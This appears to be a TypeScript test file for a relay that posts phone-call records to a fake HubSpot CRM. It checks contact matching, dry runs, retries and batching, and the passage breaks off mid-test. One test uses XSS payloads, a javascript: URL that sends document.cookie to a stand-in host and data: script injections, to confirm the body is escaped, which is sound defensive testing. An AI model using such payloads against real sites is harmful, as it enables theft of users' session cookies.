// HubSpot delivery through a real relay into a fake HubSpot that checks the documented API:
// one engagement per call with the right properties, contact and owner, PATCH on later changes,
// missed-call tasks once, ambiguous creates adopted rather than duplicated, 429s honoured.

import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import { backfillAll } from '../../store/backfill.js';
import { createLogger, type Logger } from '../../telemetry/log.js';
import { loadConfig } from '../../config/load.js';
import type { Flow } from '../../flows.js';
import { DEFAULT_DISPOSITIONS } from './mapping.js';
import { startRelay, type Relay } from '../../runtime.js';
import { FakeHubspot } from './fake.js';
import {
  ConsoleClient,
  goldenCases,
  sameParty,
  MAIN,
  TOKENS,
  sendFlowRequest,
  settleDeliveries,
  tempDir,
  writeRelayYaml,
  type SourceSettingsMap,
} from '../../../test/support.js';

const HS_TOKEN = 'pat-eu1-test-token-0000';

async function setup(
  extra = '',
  sources?: SourceSettingsMap,
  log?: Logger,
): Promise<{
  hs: FakeHubspot;
  relay: Relay;
  send: (source: string, r: Flow['requests'][number]) => Promise<void>;
  settle: () => Promise<void>;
  /** relay.yaml, for a test that edits it and reloads. */
  config: string;
}> {
  const hs = await new FakeHubspot(HS_TOKEN).start();
  const dir = tempDir();
  const config = writeRelayYaml(dir, {
    sources,
    more: `targets:\n  - name: hubspot\n    type: hubspot\n    token: ${HS_TOKEN}\n    baseUrl: ${hs.url}\n    searchLagSec: 0.3\n${extra}`,
  });
  const relay = await startRelay(loadConfig(config, {}), log, {
    delivery: { pollMs: 20, backoff: { baseMs: 50, maxMs: 400 } },
  });
  const send = async (source: string, r: Flow['requests'][number]): Promise<void> => {
    const res = await sendFlowRequest(relay.port, source, r);
    if (res) expect(res.status).toBe(200);
  };
  const settle = (): Promise<void> => settleDeliveries(relay);
  return { hs, relay, send, settle, config };
}

describe('HubSpot target', () => {
  const cleanup: (() => Promise<void>)[] = [];
  afterEach(async () => {
    for (const c of cleanup.splice(0).reverse()) await c();
  });
  const open = async (
    extra = '',
    sources?: Parameters<typeof setup>[1],
    log?: Logger,
  ): Promise<Awaited<ReturnType<typeof setup>>> => {
    const s = await setup(extra, sources, log);
    cleanup.push(
      () => s.hs.close(),
      () => s.relay.close(),
    );
    return s;
  };

  it.each(goldenCases().map((c) => [`${c.adapter}/${c.flow.name}`, c] as const))(
    '%s ends as exactly its calls',
    async (_n, c) => {
      const { hs, send, settle } = await open('', { [c.adapter]: c.flow.source });
      for (const r of c.flow.requests) await send(c.adapter, r);
      await settle();
      const expected = c.flow.expect!.calls;
      expect(hs.calls.size).toBe(expected.length);
      const byToken = new Map(
        [...hs.calls.values()].map((o) => [o.properties.hs_call_external_id, o]),
      );
      for (const e of expected) {
        const o = byToken.get(`callrelay:${c.adapter}:${String(e.callId)}`);
        expect(o, `engagement for ${String(e.callId)}`).toBeDefined();
        const p = o!.properties;
        expect(p.hs_call_direction).toBe(e.direction === 'outbound' ? 'OUTBOUND' : 'INBOUND');
        expect(p.hs_call_disposition).toBe(
          DEFAULT_DISPOSITIONS[e.outcome as keyof typeof DEFAULT_DISPOSITIONS],
        );
        expect(p.hs_call_status).toBe(
          { answered: 'COMPLETED', missed: 'NO_ANSWER', busy: 'BUSY' }[e.outcome as string],
        );
        // Talk time: 0 when nobody answered, the talk time where the provider gives it.
        const talk = e.outcome === 'answered' ? (e.talkSec ?? e.durationSec) : 0;
        if (talk === null) expect(p.hs_call_duration).toBeUndefined();
        else if (typeof talk === 'number') expect(p.hs_call_duration).toBe(String(talk * 1000));
        const recs = (e.recordings as string[] | undefined) ?? [];
        // HubSpot plays HTTPS .mp3 and .wav files (docs/crm-notes.md).
        const playable = recs.filter((u) => /^https:\/\/[^\s{}]+\.(mp3|wav)(\?.*)?$/i.test(u));
        if (playable.length) expect(playable).toContain(p.hs_call_recording_url);
        else expect(p.hs_call_recording_url).toBeUndefined();
        // Recordings HubSpot cannot play, and further legs' recordings, are in the body.
        for (const u of recs.filter((u) => u !== p.hs_call_recording_url))
          expect(p.hs_call_body).toContain(u.replace(/&/g, '&amp;'));
        const ai = e.ai as { summary?: string } | undefined;
        if (ai?.summary) expect(p.hs_call_body).toContain(ai.summary);
        const number = String(e.externalNumber);
        expect(p.hs_call_title).toMatch(number.length ? /call (from|to) / : /./);
        const party =
          p.hs_call_direction === 'INBOUND' ? p.hs_call_from_number : p.hs_call_to_number;
        expect(
          sameParty(party, e.externalNumber),
          `${String(party)}: ${String(e.externalNumber)}`,
        ).toBe(true);
      }
      expect(hs.tooManyRequests).toBe(0);
    },
  );

  it('never attaches a caller to a look-alike contact from another country', async () => {
    const { hs, send, settle } = await open();
    // A Slovenian contact (+386) with the national digits of a Serbian caller (+381).
    const slovenian = hs.addContact({ firstname: 'Look-alike', phone: '+386 62 975 9787' });
    const post = (body: string): Flow['requests'][number] => ({
      method: 'POST',
      contentType: 'application/json',
      body,
    });
    await send(
      '3cx',
      post(
        '{"event":"outgoing","callerid":"381629759787","user":"105","finishtype":"Ok","transfer":"False","did":"","title":"Successful call to 381629759787 (0:05)","id":"260301120000_5-1"}',
      ),
    );
    await settle();
    const [call] = [...hs.calls.values()];
    expect(call!.properties.hs_call_to_number).toBe('+381629759787');
    expect(call!.associations.map((a) => a.to.id)).not.toContain(slovenian);
    expect(call!.associations).toEqual([]);
  });

  it('attaches a shared number to the contact made first and names the others in the body', async () => {
    const { hs, send, settle } = await open();
    // A shared office line: three contacts have it, the one made first is neither the first
    // stored nor the last modified; a look-alike from Slovakia (+421) must never be listed.
    const reception = hs.addContact(
      { firstname: 'Reception', lastname: 'Acme', phone: '+420 774 852 629' },
      { createdAt: '2024-03-01T08:00:00Z', updatedAt: '2026-05-01T08:00:00Z' },
    );
    const founder = hs.addContact(
      { firstname: 'Eva', lastname: 'Founder', phone: '774852629' },
      { createdAt: '2021-01-05T08:00:00Z', updatedAt: '2021-01-05T08:00:00Z' },
    );
    const sales = hs.addContact(
      { firstname: 'Petr', lastname: 'Sales', mobilephone: '+420774852629' },
      { createdAt: '2025-06-01T08:00:00Z', updatedAt: '2026-06-01T08:00:00Z' },
    );
    const slovak = hs.addContact(
      { firstname: 'Look-alike', phone: '+421 774 852 629' },
      { createdAt: '2020-01-01T08:00:00Z' },
    );
    const flow = goldenCases().find((c) => c.flow.name === '3cx-v1-incoming-answered')!.flow;
    for (const r of flow.requests) await send('3cx', r);
    await settle();
    const [call] = [...hs.calls.values()];
    expect(call!.associations.map((a) => a.to.id)).toEqual([founder]);
    const body = call!.properties.hs_call_body!;
    expect(body).toContain(
      `<b>Also on this number:</b> Reception Acme (id ${reception}), Petr Sales (id ${sales})`,
    );
    expect(body).not.toContain(`id ${slovak}`);
    expect(body).not.toContain('Look-alike');
  });

  it('links only http(s) recordings in the body; a javascript: or data: URL is shown as text', async () => {
    const { hs, send, settle } = await open();
    const urls = [
      'javascript:fetch(`//evil.example/`+document.cookie)//x.ogg',
      ' JavaScript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'https://pbx.example.com/r/a.ogg?x=1&y="2"',
    ];
    await send('3cx', {
      method: 'POST',
      contentType: 'application/json',
      body: JSON.stringify({
        Event: 'incoming',
        Callerid: '420774852629',
        User: '117',
        Finishtype: 'Ok',
        Duration: '00:05',
        Id: '260701100000_9-1',
        FileUrls: urls,
      }),
    });
    await settle();
    const body = [...hs.calls.values()][0]!.properties.hs_call_body!;
    const hrefs = [...body.matchAll(/href="([^"]*)"/g)].map((m) => m[1]);
    expect(hrefs).toEqual(['https://pbx.example.com/r/a.ogg?x=1&amp;y=&quot;2&quot;']);
    expect(body).toContain('<b>Recording:</b> javascript:fetch(`//evil.example/`+document.cookie)');
    expect(body).toContain(
      '<b>Recording:</b> data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;',
    );
    expect(body).not.toContain('<script>');
  });

  it('associates the contact with that number, verified by digits, and caches the lookup', async () => {
    const { hs, send, settle } = await open(
      '    agents:\n      "102": alice@example.com\n      "117": "90001"\n',
    );
    hs.owners.push({ id: '70001', email: 'alice@example.com', type: 'PERSON', archived: false });
    const near = hs.addContact({ firstname: 'Near', phone: '+420 774 852 620' });
    const jana = hs.addContact({ firstname: 'Jana', phone: '+420 774 852 629' });
    const flow = goldenCases().find((c) => c.flow.name === '3cx-v1-incoming-answered')!.flow;
    for (const r of flow.requests) await send('3cx', r);
    await settle();
    const [call] = [...hs.calls.values()];
    expect(call!.associations).toEqual([
      {
        to: { id: jana },
        types: [{ associationCategory: 'HUBSPOT_DEFINED', associationTypeId: 194 }],
      },
    ]);
    expect(call!.associations[0]!.to.id).not.toBe(near);
    expect(call!.properties.hubspot_owner_id).toBe('70001');
    expect(call!.properties.hs_call_from_number).toBe('+420774852629');
    expect(call!.properties.hs_call_to_number).toBe('+420222000320');

    // The second call from the same number needs no second contact search; numeric owner ids go
    // as they are.
    const searches = hs.count('POST', '/crm/v3/objects/contacts/search');
    const second = goldenCases().find((c) => c.flow.name === '3cx-get-incoming-missed')!.flow;
    for (const r of second.requests) await send('3cx', r);
    await settle();
    expect(hs.count('POST', '/crm/v3/objects/contacts/search')).toBe(searches);
    expect(hs.count('GET', '/crm/v3/owners')).toBe(1);
  });

  it('in a dry run builds exactly what HubSpot gets, sends nothing, and keeps the bodies', async () => {
    // Delivered a second after the end, once the whole flow is in: the same requests each time.
    const agents =
      '    agents:\n      "202": alice@example.com\n    missedCallTask: true\n    settleSec: 1\n';
    const flows = ['3cx-v2-incoming-answered', '3cx-v2-outgoing-missed'].map(
      (n) => goldenCases().find((c) => c.flow.name === n)!.flow,
    );
    const real = await open(agents);
    real.hs.owners.push({
      id: '70001',
      email: 'alice@example.com',
      type: 'PERSON',
      archived: false,
    });
    const dry = await open(`${agents}    dryRun: true\n`);
    for (const { send, settle } of [real, dry]) {
      for (const f of flows) for (const r of f.requests) await send('3cx', r);
      await settle();
    }
    // Nothing reached the dry run's HubSpot, not even a lookup.
    expect(dry.hs.log).toEqual([]);
    expect(real.hs.calls.size).toBe(2);
    for (const f of flows) {
      const callId = String(f.expect!.calls[0]!.callId);
      const attempts = (
        await dry.relay.store.listAttempts({ call: { source: '3cx', callId }, limit: 50 })
      ).reverse();
      const token = `callrelay:3cx:${callId}`;
      const realCall = [...real.hs.calls.values()].find(
        (o) => o.properties.hs_call_external_id === token,
      )!;
      const sentOps = attempts.filter((a) => a.method !== 'GET' && !a.path!.includes('/search'));
      // The engagement's properties as HubSpot ended up with them (creates, then PATCHes).
      const built: Record<string, string> = {};
      for (const a of sentOps.filter((a) => /\/calls(\/\d+)?$/.test(a.path!)))
        Object.assign(
          built,
          (JSON.parse(a.sent!) as { properties: Record<string, string> }).properties,
        );
      const { hubspot_owner_id: realOwner, hs_timestamp: _t, ...realProps } = realCall.properties;
      const { hubspot_owner_id: dryOwner, hs_timestamp: _u, ...dryProps } = built;
      expect(dryProps).toEqual(realProps);
      // The owner is looked up as for real; the sandbox answers with an id of its own.
      expect(realOwner === undefined).toBe(dryOwner === undefined);
      // Reads are kept without a body; every write carries the JSON that would have been sent.
      for (const a of attempts) expect(a.sent === null).toBe(a.method === 'GET');
    }
    // The same requests overall (ids aside), the missed call's follow-up task among them.
    const shape = (method: string, path: string): string =>
      `${method} ${path.replace(/\/\d+$/, '/ID')}`;
    const all = await dry.relay.store.listAttempts({ limit: 100 });
    expect(all.map((a) => shape(a.method!, a.path!)).sort()).toEqual(
      real.hs.log.map((l) => shape(l.method, l.path)).sort(),
    );
    expect(real.hs.count('POST', '/crm/v3/objects/tasks')).toBe(1);

    // The console's call page says it is a dry run and shows the body, escaped.
    const client = new ConsoleClient(`http://127.0.0.1:${dry.relay.port}`);
    expect((await client.post('/console/sign-in', { token: TOKENS.admin })).status).toBe(303);
    const callId = String(flows[0]!.expect!.calls[0]!.callId);
    const page = await (await client.request(`/console/calls/3cx/${callId}`)).text();
    expect(page).toContain('class="badge b-dryrun"');
    expect(page).toContain('<summary>What the CRM would get</summary>');
    expect(page).toContain('&quot;hs_call_direction&quot;: &quot;INBOUND&quot;');
  });

  it('turned real, creates anew what a dry run delivered; never updates a sandbox id', async () => {
    const { hs, send, settle, relay, config } = await open('    dryRun: true\n');
    const missed = goldenCases().find((c) => c.flow.name === '3cx-get-incoming-missed')!.flow;
    const other = goldenCases().find((c) => c.flow.name === '3cx-v2-outgoing-answered')!.flow;
    for (const r of [...missed.requests, ...other.requests]) await send('3cx', r);
    await settle();
    const before = await relay.store.listDeliveries({ limit: 10 });
    expect(before.map((d) => [d.state, d.dryRun])).toEqual([
      ['done', true],
      ['done', true],
    ]);
    // The sandbox's ids are kept apart from the CRM's.
    for (const d of before) expect(d.remote).toEqual({ sandbox: expect.anything() });
    // "Test connection" asks nothing of a sandbox, and says so.
    const client = new ConsoleClient(`http://127.0.0.1:${relay.port}`);
    expect((await client.post('/console/sign-in', { token: TOKENS.admin })).status).toBe(303);
    const setupPage = await (await client.request('/console/setup')).text();
    client.csrf = /<meta name="csrf-token" content="([^"]+)"/.exec(setupPage)![1]!;
    expect((await client.post('/console/setup/targets/hubspot/check')).status).toBe(303);
    expect(await (await client.request('/console/setup')).text()).toContain(
      'hubspot: dry run, nothing asked',
    );
    expect(hs.log).toEqual([]);

    // dryRun removed; what the sandbox "delivered" still says so, in the API and the console.
    writeFileSync(config, readFileSync(config, 'utf8').replace('    dryRun: true\n', ''));
    await relay.reload();
    const api = await fetch(`http://127.0.0.1:${relay.port}/api/deliveries?target=hubspot`, {
      headers: { authorization: `Bearer ${TOKENS.admin}` },
    });
    const { deliveries } = (await api.json()) as {
      deliveries: { dryRun: boolean; crm: unknown }[];
    };
    expect(deliveries.map((d) => [d.dryRun, d.crm])).toEqual([
      [true, null],
      [true, null],
    ]);
    const list = await (await client.request('/console/calls')).text();
    expect(list.match(/class="badge b-dryrun"/g)).toHaveLength(2);
    const cli = (...args: string[]): string =>
      execFileSync(process.execPath, [MAIN, ...args, '--config', config], { encoding: 'utf8' });
    expect(cli('deliveries', '--state', 'done').match(/delivered \(dry run\)/g)).toHaveLength(2);
    // The missed call then changes (its recording arrives).
    await send('3cx', {
      method: 'POST',
      contentType: 'application/json',
      body: '{"Event":"recording","FileUrls":["https://pbx/webapi/recording/230102104542_15-0-1.mp3"],"Id":"230102104542_15-0"}',
    });
    await settle();
    // Created in HubSpot, not PATCHed at the sandbox's id.
    expect(hs.count('PATCH', '/crm/v3/objects/calls/')).toBe(0);
    expect(hs.count('POST', '/crm/v3/objects/calls')).toBe(1);
    const changed = (await relay.store.getDelivery(before[0]!.id))!;
    expect(changed).toMatchObject({
      state: 'done',
      dryRun: false,
      remote: { callObjectId: [...hs.calls.keys()][0] },
    });
    expect(changed.remote).not.toHaveProperty('sandbox');
    // The call that did not change stays the sandbox's until a backfill sends it for real.
    expect(await relay.store.getDelivery(before[1]!.id)).toMatchObject({ dryRun: true });
    const since = '2000-01-01T00:00:00Z';
    expect(
      await backfillAll(relay.store, { target: 'hubspot', since, dryRun: false }),
    ).toMatchObject({ matched: 1 });
    relay.delivery.kick();
    await settle();
    expect(hs.calls.size).toBe(2);
    expect(hs.count('PATCH', '/crm/v3/objects/calls/')).toBe(0);
    expect(await relay.store.getDelivery(before[1]!.id)).toMatchObject({
      state: 'done',
      dryRun: false,
    });
    expect(await backfillAll(relay.store, { target: 'hubspot', since, dryRun: true })).toEqual({
      scanned: 0,
      matched: 0,
    });
  });

  it('says so when HubSpot has no user for an agent: per call, once in the log, in the console', async () => {
    const lines: string[] = [];
    const log = createLogger('info', { write: (s: string) => void lines.push(s) });
    const { hs, send, settle, relay } = await open(
      '    agents:\n      "102": bob@acme-ofice.cz\n',
      undefined,
      log,
    );
    const flow = goldenCases().find((c) => c.flow.name === '3cx-v1-incoming-answered')!.flow;
    // Two calls of agent 102: the second one's lookup comes from the cache.
    for (const id of ['230115121143_9', '230115121199_9'])
      for (const r of flow.requests)
        await send('3cx', { ...r, body: r.body?.replaceAll('230115121143_9', id) });
    await settle();
    expect(hs.calls.size).toBe(2);
    for (const c of hs.calls.values()) expect(c.properties.hubspot_owner_id).toBeUndefined();
    expect(hs.count('GET', '/crm/v3/owners')).toBe(1);
    const text = 'agent 102 (bob@acme-ofice.cz) is not a HubSpot user: the call has no owner';
    // Each call's runs say it, as a note (no request), the run delivered all the same.
    for (const callId of ['230115121143_9', '230115121199_9']) {
      const attempts = await relay.store.listAttempts({
        call: { source: '3cx', callId },
        limit: 50,
      });
      const notes = attempts.filter((a) => a.error === text);
      expect(notes.length).toBeGreaterThan(0);
      for (const n of notes)
        expect(n).toMatchObject({
          operation: "finding the agent's CRM user",
          method: null,
          result: 'ok',
        });
      expect(attempts[0]!.result).toBe('delivered');
    }
    // The log says it once, not per call.
    const warned = lines.filter((l) => l.includes(text));
    expect(warned).toHaveLength(1);
    expect(JSON.parse(warned[0]!)).toMatchObject({ level: 40, target: 'hubspot', agent: '102' });
    // The call page and the setup page show it.
    const client = new ConsoleClient(`http://127.0.0.1:${relay.port}`);
    expect((await client.post('/console/sign-in', { token: TOKENS.admin })).status).toBe(303);
    const page = await (await client.request('/console/calls/3cx/230115121143_9')).text();
    expect(page).toContain(text);
    const setupPage = await (await client.request('/console/setup')).text();
    expect(setupPage).toContain('Agents without a user');
    expect(setupPage).toContain(text);
  });

  it('creates contacts for unknown callers and one follow-up task per missed call', async () => {
    const { hs, send, settle } = await open(
      '    createContacts: true\n    missedCallTask: true\n    agents:\n      "804": "90001"\n',
    );
    const flow = goldenCases().find((c) => c.flow.name === '3cx-get-incoming-missed')!.flow;
    for (const r of flow.requests) await send('3cx', r);
    await settle();
    expect(hs.contacts.size).toBe(1);
    const [contact] = [...hs.contacts.values()];
    expect(contact!.properties).toMatchObject({ firstname: 'Caller', phone: '+420774852629' });
    expect(hs.tasks.size).toBe(1);
    const [task] = [...hs.tasks.values()];
    expect(task!.properties).toMatchObject({
      hs_task_status: 'NOT_STARTED',
      hs_task_type: 'CALL',
      hubspot_owner_id: '90001',
    });
    expect(task!.associations[0]).toEqual({
      to: { id: contact!.id },
      types: [{ associationCategory: 'HUBSPOT_DEFINED', associationTypeId: 204 }],
    });
    // A later change (the same end again, now with a recording) updates the call, not a second
    // task.
    await send('3cx', {
      method: 'POST',
      contentType: 'application/json',
      body: '{"Event":"recording","FileUrls":["https://pbx/webapi/recording/230102104542_15-0-1.mp3"],"Id":"230102104542_15-0"}',
    });
    await settle();
    expect(hs.tasks.size).toBe(1);
    expect(hs.calls.size).toBe(1);
    expect(hs.count('PATCH', '/crm/v3/objects/calls/')).toBe(1);
  });

  it('adopts a create whose answer was lost instead of creating a duplicate', async () => {
    const { hs, send, settle, relay } = await open();
    hs.faults.push({ match: 'POST /crm/v3/objects/calls', fault: { resetAfterProcessing: true } });
    const flow = goldenCases().find((c) => c.flow.name === '3cx-v2-outgoing-answered')!.flow;
    for (const r of flow.requests) await send('3cx', r);
    await settle();
    expect(hs.calls.size).toBe(1);
    expect(hs.count('POST', '/crm/v3/objects/calls/search')).toBe(1);
    const [d] = await relay.store.listDeliveries({ limit: 10 });
    expect(d).toMatchObject({ state: 'done', remote: { callObjectId: [...hs.calls.keys()][0] } });
    expect(d!.remote).not.toHaveProperty('pendingCreate');
  });

  it('never sends a create again at once after a 5xx: it may have been made, so it looks first', async () => {
    const { hs, send, settle } = await open();
    hs.faults.push({ match: 'POST /crm/v3/objects/calls', fault: { status: 502 } });
    const flow = goldenCases().find((c) => c.flow.name === '3cx-v2-outgoing-answered')!.flow;
    for (const r of flow.requests) await send('3cx', r);
    await settle();
    expect(hs.calls.size).toBe(1);
    expect(hs.count('POST', '/crm/v3/objects/calls/search')).toBe(1);
  });

  it('creates once when a lost create had not gone through', async () => {
    const { hs, send, settle } = await open();
    hs.faults.push({ match: 'POST /crm/v3/objects/calls', fault: { resetBeforeProcessing: true } });
    const flow = goldenCases().find((c) => c.flow.name === '3cx-v2-outgoing-answered')!.flow;
    for (const r of flow.requests) await send('3cx', r);
    await settle();
    expect(hs.calls.size).toBe(1);
    expect(hs.count('POST', '/crm/v3/objects/calls/search')).toBe(1);
  });

  it("waits out a 429 with HubSpot's policy, dead-letters a validation error with HubSpot's message", async () => {
    const { hs, send, settle, relay } = await open();
    hs.faults.push({
      match: 'POST /crm/v3/objects/calls',
      fault: {
        status: 429,
        body: {
          status: 'error',
          message: 'You have reached your ten_secondly_rolling limit.',
          errorType: 'RATE_LIMIT',
          policyName: 'TEN_SECONDLY_ROLLING',
        },
      },
    });
    const flow = goldenCases().find((c) => c.flow.name === '3cx-v2-outgoing-missed')!.flow;
    for (const r of flow.requests) await send('3cx', r);
    for (let t = 0; t < 100 && !(await relay.store.listDeliveries({ limit: 1 }))[0]?.attempts; t++)
      await new Promise((r) => setTimeout(r, 20));
    const [d] = await relay.store.listDeliveries({ limit: 1 });
    expect(d!.attempts).toBe(1);
    expect(Date.parse(d!.dueAt) - Date.now()).toBeGreaterThan(8000); // TEN_SECONDLY_ROLLING: 10 s
    expect(d!.lastError).toMatch(/429 RATE_LIMIT|429 .*ten_secondly_rolling/);

    hs.faults.push({
      match: 'POST /crm/v3/objects/calls',
      fault: {
        status: 400,
        body: {
          status: 'error',
          message: 'Property values were not valid',
          category: 'VALIDATION_ERROR',
        },
      },
    });
    const other = goldenCases().find((c) => c.flow.name === '3cx-v2-ringgroup-missed')!.flow;
    for (const r of other.requests) await send('3cx', r);
    await settle().catch(() => {});
    const dead = await relay.store.listDeliveries({ state: 'dead', limit: 5 });
    expect(dead.map((x) => x.lastError)).toEqual([
      expect.stringMatching(
        /creating the call engagement: 400 VALIDATION_ERROR: Property values were not valid$/,
      ),
    ]);
  });

  describe('under a backlog: batch create and update', () => {
    // One request per 0.4 s: the first call goes alone, the ones behind it wait for the next slot
    // and share it. Four callers, each a contact, so that every engagement can be checked against
    // its own call (HubSpot's fake answers a batch in reverse order).
    const SLOW = '    rateLimit: { requests: 1, perSeconds: 0.4 }\n';
    const CALLS = 8;
    const numberOf = (i: number): string => `42077485260${i % 4}`;
    const idOf = (i: number): string => `261202100000_${i}`;
    const tokenOf = (i: number): string => `callrelay:3cx:${idOf(i)}`;
    const ended = (i: number) => ({
      method: 'POST',
      contentType: 'application/json',
      body: `{"Event":"incoming","Callerid":"${numberOf(i)}","User":"117","Finishtype":"Ok","Transfer":"False","Did":"","Duration":"00:0${i + 1}","Id":"${idOf(i)}-1"}`,
    });
    const recording = (i: number) => ({
      method: 'POST',
      contentType: 'application/json',
      body: `{"Event":"recording","FileUrls":["https://pbx.example.com/rec/${idOf(i)}.mp3"],"Id":"${idOf(i)}-1"}`,
    });
    const contacts = (hs: FakeHubspot): Map<string, string> =>
      new Map(
        [0, 1, 2, 3].map((n) => [
          numberOf(n),
          hs.addContact({ firstname: `C${n}`, phone: `+${numberOf(n)}` }),
        ]),
      );
    const byToken = (hs: FakeHubspot) =>
      new Map([...hs.calls.values()].map((o) => [o.properties.hs_call_external_id!, o]));

    it('creates and updates the waiting calls in batches, each on its own engagement', async () => {
      const { hs, send, settle, relay } = await open(SLOW);
      const contactOf = contacts(hs);
      for (let i = 0; i < CALLS; i++) await send('3cx', ended(i));
      await settle();
      expect(hs.count('POST', '/crm/v3/objects/calls/batch/create')).toBeGreaterThan(0);
      expect(Math.max(...hs.batchSizes)).toBeGreaterThan(1);
      expect(hs.calls.size).toBe(CALLS);
      const made = byToken(hs);
      for (let i = 0; i < CALLS; i++) {
        const o = made.get(tokenOf(i));
        expect(o, tokenOf(i)).toBeDefined();
        expect(o!.properties.hs_call_duration).toBe(String((i + 1) * 1000));
        expect(o!.associations[0]!.to.id).toBe(contactOf.get(numberOf(i)));
      }
      // Each delivery remembers its own engagement, so the recordings land on the right ones.
      for (const d of await relay.store.listDeliveries({ limit: 50 }))
        expect(hs.calls.get(String(d.remote.callObjectId))?.properties.hs_call_external_id).toBe(
          `callrelay:3cx:${d.callId}`,
        );
      const sizes = hs.batchSizes.length;
      for (let i = 0; i < CALLS; i++) await send('3cx', recording(i));
      await settle();
      expect(hs.count('POST', '/crm/v3/objects/calls/batch/update')).toBeGreaterThan(0);
      expect(hs.batchSizes.length).toBeGreaterThan(sizes);
      expect(hs.calls.size).toBe(CALLS);
      for (let i = 0; i < CALLS; i++)
        expect(made.get(tokenOf(i))!.properties.hs_call_recording_url).toBe(
          `https://pbx.example.com/rec/${idOf(i)}.mp3`,
        );
      // Fewer requests than calls: the batches paid for the backlog.
      expect(
        hs.count('POST', '/crm/v3/objects/calls') + hs.count('PATCH', '/crm/v3/objects/calls'),
      ).toBeLessThan(2 * CALLS);
      // Each delivery's attempts show the batch request it rode in.
      const rows = await relay.store.listAttempts({ limit: 500 });
      const batched = rows.filter((r) => r.path === '/crm/v3/objects/calls/batch/create');
      expect(new Set(batched.map((r) => r.callId)).size).toBeGreaterThan(1);
      expect(batched[0]!.operation).toMatch(/^creating \d+ call engagements in one batch$/);
      // A batch is one request in the metrics, however many deliveries it carried.
      const counted = (await relay.metrics.crmRequests.get()).values.reduce(
        (n, v) => n + v.value,
        0,
      );
      expect(counted).toBe(hs.log.length);
    });

    it('fails only the input HubSpot refused in a 207; a batch refused whole is sent call by call', async () => {
      const { hs, send, settle, relay } = await open(SLOW);
      contacts(hs);
      hs.failInputs.set(tokenOf(CALLS - 1), {
        category: 'VALIDATION_ERROR',
        message: 'Property values were not valid',
      });
      for (let i = 0; i < CALLS; i++) await send('3cx', ended(i));
      await settle().catch(() => {});
      expect(hs.calls.size).toBe(CALLS - 1);
      const dead = await relay.store.listDeliveries({ state: 'dead', limit: 5 });
      expect(dead.map((d) => [d.callId, d.lastError])).toEqual([
        [
          idOf(CALLS - 1),
          expect.stringMatching(
            /creating \d+ call engagements in one batch: VALIDATION_ERROR: Property values were not valid$/,
          ),
        ],
      ]);

      const { hs: hs2, send: send2, settle: settle2 } = await open(SLOW);
      contacts(hs2);
      hs2.faults.push({
        match: 'POST /crm/v3/objects/calls/batch/create',
        fault: {
          status: 400,
          body: { status: 'error', message: 'bad input', category: 'VALIDATION_ERROR' },
        },
      });
      for (let i = 0; i < CALLS; i++) await send2('3cx', ended(i));
      await settle2();
      expect(hs2.log.some((l) => l.path.endsWith('/batch/create') && l.status === 400)).toBe(true);
      expect(hs2.calls.size).toBe(CALLS);
      expect(new Set(byToken(hs2).keys()).size).toBe(CALLS);
    });

    it('dead-letters each call of a batch whose shaped property HubSpot does not have, at the expression', async () => {
      const { hs, send, settle, relay, config } = await open(
        `${SLOW}    properties: '{"call_queue": call.agent}'\n`,
      );
      contacts(hs);
      for (let i = 0; i < CALLS; i++) await send('3cx', ended(i));
      await settle();
      expect(hs.batchSizes.some((n) => n > 1)).toBe(true);
      expect(hs.calls.size).toBe(0);
      const line = readFileSync(config, 'utf8')
        .split('\n')
        .findIndex((l) => l.includes('call_queue'));
      const dead = await relay.store.listDeliveries({ state: 'dead', limit: 50 });
      expect(dead).toHaveLength(CALLS);
      for (const d of dead) {
        expect(d.attempts).toBe(1);
        expect(d.lastError).toBe(
          `delivering call ${d.callId} (3cx) to hubspot: relay.yaml:${line + 1}:18 properties: HubSpot has no property "call_queue" (PROPERTY_DOESNT_EXIST)`,
        );
      }
    });

    it('in a dry run, batches too: each call gets its own id from the sandbox', async () => {
      const { hs, send, settle, relay } = await open(`${SLOW}    dryRun: true\n`);
      for (let i = 0; i < CALLS; i++) await send('3cx', ended(i));
      await settle();
      expect(hs.log).toEqual([]);
      const done = await relay.store.listDeliveries({ state: 'done', limit: 50 });
      expect(done).toHaveLength(CALLS);
      // The sandbox's ids, kept apart from the CRM's (delivery/engine.ts splitRemote).
      const ids = done.map((d) => (d.remote.sandbox as { callObjectId?: string }).callObjectId);
      expect(new Set(ids).size).toBe(CALLS);
      const rows = await relay.store.listAttempts({ limit: 500 });
      const batch = rows.find((r) => r.path === '/crm/v3/objects/calls/batch/create');
      expect(batch!.status).toBe(201);
      expect(JSON.parse(batch!.sent!).inputs.length).toBeGreaterThan(1);
    });

    it('adopts every call of a batch whose answer was lost, creating none twice', async () => {
      const { hs, send, settle, relay } = await open(SLOW);
      contacts(hs);
      hs.faults.push({
        match: 'POST /crm/v3/objects/calls/batch/create',
        fault: { resetAfterProcessing: true },
      });
      for (let i = 0; i < CALLS; i++) await send('3cx', ended(i));
      await settle();
      expect(hs.batchSizes[0]).toBeGreaterThan(1);
      expect(hs.calls.size).toBe(CALLS);
      expect(new Set(byToken(hs).keys()).size).toBe(CALLS);
      // Only the calls of the lost batch were looked for.
      expect(hs.count('POST', '/crm/v3/objects/calls/search')).toBe(hs.batchSizes[0]);
      for (const d of await relay.store.listDeliveries({ limit: 50 })) {
        expect(d.state).toBe('done');
        expect(d.remote).not.toHaveProperty('pendingCreate');
      }
    });
  });

  describe('shaped by relay.yaml (title, body, properties, associate)', () => {
    const answered = (): Flow =>
      goldenCases().find((c) => c.flow.name === '3cx-v1-incoming-answered')!.flow;
    /** relay.yaml's place of a target's field whose value is a block: the block's first line. */
    const blockPlace = (config: string, field: string): string => {
      const lines = readFileSync(config, 'utf8').split('\n');
      const at = lines.findIndex((l) => l.trimStart().startsWith(`${field}: |`));
      const indent = /^ */.exec(lines[at + 1]!)![0].length;
      return `relay.yaml:${at + 2}:${indent + 1}`;
    };

    it('sends the shaped title, body and properties, and associates the primary company and the open deal updated last', async () => {
      const { hs, send, settle } = await open(
        [
          '    associate: [company, deal]',
          `    title: '"Anruf " & $mmss(talkSec) & " · " & title'`,
          '    body: |',
          '      body & "<br><b>Queue:</b> " & call.rang[0]',
          '    properties: |',
          '      {',
          '        "call_queue": call.rang[0],',
          '        "call_rank": 3,',
          '        "hs_call_disposition": null',
          '      }',
          '',
        ].join('\n'),
      );
